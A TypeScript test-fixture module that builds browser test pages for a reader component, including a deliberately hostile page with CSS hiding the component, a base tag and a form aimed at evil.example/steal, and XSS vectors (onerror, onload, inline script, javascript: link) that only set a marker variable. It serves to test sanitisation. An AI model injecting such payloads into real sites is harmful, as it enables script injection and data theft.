import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

/**
 * Pages the browser tests need that are the seed article with something added: built here
 * from the one copy of the seed rather than kept as near-identical files.
 */
const seed = () => readFileSync(fileURLToPath(new URL('../fixtures/seed-article/source.html', import.meta.url)), 'utf8');

const HOSTILE_HEAD = `<style>
  /* A page that targets Lede's host element and everything else. */
  lede-reader, lede-reader * { display: none !important; opacity: 0 !important; visibility: hidden !important; }
  html body * { color: red !important; font-size: 2px !important; }
</style>
<base href="https://evil.example/">
</head>`;

const HOSTILE_PARAGRAPH = `<p>Security researchers at Quarkslab Inc. said the payload <img src="x" onerror="window.__pwned = 'img'"> never ran, and
    <svg onload="window.__pwned = 'svg'"><circle r="2"></circle></svg> the analysts wrote "<b>bold</b> claims <script>window.__pwned = 'quote'</script> are easy to make" in a note.
    Read the <a href="javascript:window.__pwned='link'">full report</a> or <a href="/relative/report">the summary</a>.</p>
    <iframe src="https://ads.example/frame"></iframe>
    <form action="https://evil.example/steal"><input name="q"><button>Go</button></form>
    <p>The party's also stepped in`;

const NEXT_STORY_SCRIPT = `<script>
  // Loads "the next story" the way single-page news sites do: new content, new URL, no page load.
  window.loadNextStory = function () {
    document.querySelector('.article-title').textContent = 'A different story entirely';
    history.pushState({ story: 2 }, '', '?story=2');
  };
</script>
</body>`;

export const GENERATED_PAGES: Record<string, () => string> = {
  /** CSS aimed at Lede's host, payloads in the article, a <base> pointing elsewhere. */
  '/pages/hostile.html': () => seed().replace('</head>', HOSTILE_HEAD).replace("<p>The party's also stepped in", HOSTILE_PARAGRAPH),
  /** A single-page site that swaps the story in place. */
  '/pages/spa-article.html': () => seed().replace('</body>', NEXT_STORY_SCRIPT),
};
